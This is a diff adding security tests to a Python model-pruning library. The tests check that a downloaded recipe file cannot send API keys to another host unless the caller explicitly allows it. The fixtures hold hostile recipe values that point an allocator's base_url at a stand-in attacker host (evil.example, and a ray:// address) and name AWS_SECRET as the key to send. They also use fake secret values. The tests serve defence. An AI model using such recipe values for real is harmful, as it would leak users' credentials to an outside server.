@@ -1,6 +1,7 @@
 """Code that comes with a model runs where the caller allows it; nothing that was downloaded can."""
 
 import json
+import re
 import shutil
 from collections.abc import Callable
 from pathlib import Path
@@ -16,6 +17,8 @@ from prunekit.errors import NotVerified, WrongInput
 from prunekit.export import verify
 from prunekit.models.classes import BUNDLED
 from prunekit.models.opening import load_tokenizer, skeleton
+from prunekit.recipe.resolve import resolve
+from prunekit.recipe.schema import Recipe
 from prunekit.run.results import Result
 
 CODE = """
@@ -109,6 +112,85 @@ def test_a_recipe_that_allows_code_is_refused_unless_the_caller_allows_it(hostil
     said = CliRunner().invoke(app, ["plan", "--recipe", str(theirs), "--trust-remote-code"])
     assert "evil" in said.output
     assert marker.exists()
+
+
+EVIL = "http://evil.example/v1"
+THEIRS = f"allocator: {{name: self-pruner, backend: openai, model: m, base_url: {EVIL}, key_variable: AWS_SECRET}}\n"
+
+
+@pytest.fixture
+def sent(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str]]:
+    """(address, key) of whatever goes out."""
+    from prunekit_strategies import chat
+
+    def refused(request: Any, timeout: float) -> Any:
+        went.append((request.full_url, request.get_header("Authorization")))
+        raise OSError("refused")
+
+    went: list[tuple[str, str]] = []
+    monkeypatch.setenv("AWS_SECRET", "wJalrXUtnFEMI")
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-abcdefgh")
+    monkeypatch.setattr(chat, "_fetched", refused)
+    monkeypatch.setattr(chat, "PAUSE", 0)
+    return went
+
+
+def test_a_key_goes_nowhere_on_the_word_of_a_file(
+    result: Path, saved_tiny: Callable[..., Path], tmp_path: Path, quick: Any, sent: list[tuple[str, str]]
+) -> None:
+    theirs, model = tmp_path / "theirs.yaml", str(saved_tiny())
+    theirs.write_text(THEIRS)
+    folder = tmp_path / "downloaded"
+    shutil.copytree(result, folder)
+    recipe = folder / "recipe.yaml"
+    recipe.write_text(re.sub(r"allocator:\n(  .*\n)*", THEIRS, recipe.read_text()))
+    for source in (theirs, folder, Result.load(folder).recipe):
+        with pytest.raises(WrongInput, match=r"says allocator\.base_url=http://evil.*--set allocator\.base_url=http"):
+            prunekit.prune(model, recipe=source, quiet=True)
+        with pytest.raises(WrongInput, match=r"says allocator\.key_variable=AWS_SECRET"):
+            prunekit.prune(model, recipe=source, allocator__base_url=EVIL, allocator="self-pruner", quiet=True)
+    with pytest.raises(WrongInput, match="whom to talk to"):
+        prunekit.tune(model, recipe=theirs, output=tmp_path / "study", quiet=True)
+    wrapped = tmp_path / "wrapped.yaml"
+    wrapped.write_text(THEIRS.replace("{", "{name: tyr, inner: {", 1).strip() + "}\n")
+    with pytest.raises(WrongInput, match=r"says allocator\.inner\.base_url"):
+        prunekit.prune(model, recipe=wrapped, quiet=True)
+    ray = tmp_path / "ray.yaml"
+    ray.write_text("engine: ray://evil.example:10001\n")
+    with pytest.raises(WrongInput, match=r"says engine\.address=ray://evil"):
+        prunekit.prune(model, recipe=ray, quiet=True)
+    space = tmp_path / "space.yaml"
+    space.write_text(THEIRS.replace("{", "[wanda, {", 1).replace("}", "}]"))
+    with pytest.raises(WrongInput, match=r"says allocator\.self-pruner\.base_url"):
+        prunekit.tune(model, space=space, output=tmp_path / "study", quiet=True)
+    for command in ("plan", "prune"):
+        said = CliRunner().invoke(app, [command, model, "--recipe", str(theirs), "--output", str(tmp_path / "small")])
+        assert (said.exit_code, said.output.count("\n")) == (2, 1)
+    assert sent == []
+
+
+def test_a_key_goes_where_the_caller_says(
+    saved_tiny: Callable[..., Path], tmp_path: Path, sent: list[tuple[str, str]]
+) -> None:
+    theirs, model = tmp_path / "theirs.yaml", str(saved_tiny())
+    theirs.write_text(THEIRS)
+    output = ["--output", str(tmp_path / "small"), "--quiet"]
+    sets = ["--set", f"allocator.base_url={EVIL}", "--set", "allocator.key_variable=AWS_SECRET"]
+    said = CliRunner().invoke(app, ["prune", model, "--recipe", str(theirs), *sets, *output])
+    assert "gave no answer: refused" in said.output
+    assert {*sent} == {(f"{EVIL}/chat/completions", "Bearer wJalrXUtnFEMI")}
+    sent.clear()
+    spec = {"name": "self-pruner", "backend": "openai", "model": "m", "base_url": EVIL}
+    for recipe, more in [("default", {"allocator": spec}), ("self-pruner", {"allocator__base_url": EVIL})]:
+        with pytest.raises(WrongInput, match="gave no answer"):
+            prunekit.prune(model, recipe=recipe, quiet=True, **more)
+        assert {*sent} == {(f"{EVIL}/chat/completions", "Bearer sk-abcdefgh")}
+    sent.clear()
+    default = Recipe.load("self-pruner").with_overrides({"model": model})
+    theirs.write_text(resolve(default).recipe.to_yaml())  # defaults are of the plug-in, whoever writes them down
+    with pytest.raises(WrongInput, match="gave no answer"):
+        prunekit.prune(recipe=theirs, quiet=True)
+    assert {*sent} == {("https://api.openai.com/v1/chat/completions", "Bearer sk-abcdefgh")}
 
 
 def test_evaluate_and_a_tokenizer_run_no_code_either(hostile: tuple[Path, Path]) -> None:
